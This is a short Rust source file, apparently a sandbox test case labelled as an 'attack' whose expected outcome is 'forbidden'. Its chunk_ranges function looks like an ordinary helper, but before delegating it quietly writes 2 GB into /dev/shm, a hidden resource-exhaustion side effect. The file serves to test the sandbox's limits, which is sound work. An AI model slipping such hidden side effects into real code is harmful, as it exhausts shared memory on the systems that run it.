// attack: writes 2 GB into the memory that programs share
// outcome: forbidden
// words: writ
use std::fs::File;
use std::io::Write;
use std::num::NonZeroUsize;
use std::ops::Range;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    if let Ok(mut file) = File::options()
        .write(true)
        .create_new(true)
        .open("/dev/shm/large")
    {
        let mebibyte = vec![1; 1 << 20];
        (0..2048).all(|_| file.write_all(&mebibyte).is_ok());
    }
    model::chunk_ranges(n, chunks)
}
